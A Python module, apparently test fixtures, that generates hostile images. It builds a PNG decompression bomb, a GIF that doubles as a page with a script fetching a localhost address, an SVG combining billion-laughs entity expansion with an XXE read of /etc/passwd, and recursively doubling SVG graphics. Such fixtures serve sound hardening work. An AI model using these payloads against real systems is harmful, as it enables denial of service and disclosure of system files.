"""Hostile pictures, written byte by byte: bombs, and files that are two things at once."""

import base64
import struct
import zlib

PATTERN = (
    '<svg width="9" height="9"><pattern id="p" width="1" height="1"><rect fill="url(#p)" width="1" height="1"/>'
    '</pattern><rect fill="url(#p)" width="9" height="9"/></svg>'
)


def png(width: int, height: int) -> bytes:
    """A PNG of one colour: a few kilobytes that say they are gigabytes."""
    packer = zlib.compressobj(9)
    row = bytes(1 + width // 8)
    rows = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _part(b"IHDR", head) + _part(b"IDAT", rows) + _part(b"IEND", b"")


def polyglot() -> bytes:
    """A GIF that is a web page as well."""
    return b"GIF89a/*<script>fetch('http://127.0.0.1:9/')</script>*/=1;" + bytes(64)


def drawing() -> bytes:
    """An SVG whose entities grow, and which wants a file."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<!DOCTYPE svg [<!ENTITY e0 "x">{entities}<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return f'{text}<svg xmlns="http://www.w3.org/2000/svg"><text>&e9;&f;</text></svg>'.encode()


def doubling(depth: int) -> str:
    """An SVG that draws everything twice, `depth` times."""
    groups = "".join(f'<g id="g{n}"><use href="#g{n - 1}"/><use href="#g{n - 1}"/></g>' for n in range(1, depth + 1))
    start = '<rect id="g0" width="1" height="1"/>'
    return f'<svg width="9" height="9"><defs>{start}{groups}</defs><use href="#g{depth}"/></svg>'


def as_data(content: bytes, kind: str = "png") -> str:
    return f"data:image/{kind};base64,{base64.b64encode(content).decode()}"


def _part(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
